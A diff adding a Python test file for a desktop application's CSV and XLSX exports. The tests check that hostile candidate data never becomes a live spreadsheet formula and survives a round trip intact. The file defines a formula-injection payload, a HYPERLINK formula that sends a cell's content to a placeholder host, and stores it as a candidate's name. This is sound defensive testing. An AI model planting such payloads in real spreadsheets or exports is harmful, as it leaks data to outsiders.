@@ -1,0 +1,89 @@
+"""Hostile data and hostile conditions: formulas in candidates' names, paths that try to leave
+the output folder, backups killed midway, a first start killed midway, a base held by another
+program. Each test failed on the code before its fix."""
+
+from __future__ import annotations
+
+import csv
+import io
+from pathlib import Path
+
+from desktop_app.models import Piece, Statut
+from desktop_app.services.audit import exporter_historique
+from desktop_app.services.decisions import enregistrer_decision
+from desktop_app.services.espace import Espace, ouvrir_espace
+from desktop_app.services.exports import (
+    ecrire_matrice_csv,
+    ecrire_matrice_xlsx,
+    exporter_decisions,
+    matrice,
+)
+from desktop_app.services.importer import importer_paquet
+from tests.helpers import pdf_bytes, write_package
+
+FORMULE = '=HYPERLINK("http://exemple.invalid/?"&A1;"Cliquez")'
+
+
+def _paquet_formules(racine: Path) -> Path:
+    return write_package(
+        racine,
+        "n_candidat;n_inscription;nom_naissance;prenoms;date_naissance\n"
+        f'01234567890;001;"{FORMULE.replace(chr(34), chr(34) * 2)}";+33 Anaïs;01/02/2003\n',
+        "n_candidat;n_inscription;code_piece;fichier\n01234567890;001;CINSIG01;fichiers/c.pdf\n",
+        {"fichiers/c.pdf": pdf_bytes()},
+    )
+
+
+def _cellules(chemin: Path) -> list[str]:
+    texte = chemin.read_bytes().decode("utf-8-sig")
+    return [c for ligne in csv.reader(io.StringIO(texte), delimiter=";") for c in ligne]
+
+
+def test_no_cell_the_application_writes_is_a_formula_and_the_round_trip_stays_exact(
+    espace: Espace, tmp_path: Path
+) -> None:
+    paquet = _paquet_formules(tmp_path / "p")
+    importer_paquet(espace.db, espace.store, paquet, worker=espace.inspection)
+    with espace.db.write() as s:
+        piece = s.query(Piece).one()
+        enregistrer_decision(s, piece.id, Statut.NON_CONFORME, "@Claire",
+                             commentaire="-recto seul ; =SOMME(A1)")  # fmt: skip
+    sorties = {n: tmp_path / n for n in ("decisions.csv", "matrice.csv", "historique.csv")}
+    with espace.db.read() as s:
+        exporter_decisions(s, 1, sorties["decisions.csv"])
+        m = matrice(s, 1)
+        exporter_historique(s, "01234567890", sorties["historique.csv"])
+    ecrire_matrice_csv(m, sorties["matrice.csv"])
+    ecrire_matrice_xlsx(m, tmp_path / "matrice.xlsx", "Essai")
+    for chemin in sorties.values():
+        cellules = _cellules(chemin)
+        assert not [c for c in cellules if c[:1] in ("=", "+", "-", "@", "\t", "\r")], chemin.name
+    assert any(FORMULE in c for c in _cellules(sorties["matrice.csv"]))  # said, as text
+
+    import openpyxl
+
+    feuille = openpyxl.load_workbook(tmp_path / "matrice.xlsx").active
+    cellules = [c for ligne in feuille.iter_rows() for c in ligne if c.value is not None]
+    assert not [c for c in cellules if c.data_type == "f"]
+    assert FORMULE in [c.value for c in cellules]  # the name itself, a string
+
+    # Imported back (with the package's campagne.json and candidatures.csv), decisions.csv
+    # gives exactly the comment and the author's decision that were written.
+    retour = tmp_path / "retour"
+    retour.mkdir()
+    for nom in ("campagne.json", "candidatures.csv"):
+        (retour / nom).write_bytes((paquet / nom).read_bytes())
+    (retour / "pieces.csv").write_bytes(sorties["decisions.csv"].read_bytes())
+    (retour / "fichiers").mkdir()
+    (retour / "fichiers" / "c.pdf").write_bytes((paquet / "fichiers" / "c.pdf").read_bytes())
+    autre = ouvrir_espace(tmp_path / "autre-poste")
+    try:
+        importer_paquet(autre.db, autre.store, retour, worker=autre.inspection)
+        with autre.db.read() as s:
+            piece = s.query(Piece).one()
+            assert (piece.statut, piece.commentaire) == (
+                Statut.NON_CONFORME, "-recto seul ; =SOMME(A1)",
+            )  # fmt: skip
+            assert piece.candidature.candidat.nom_naissance == FORMULE
+    finally:
+        autre.close()
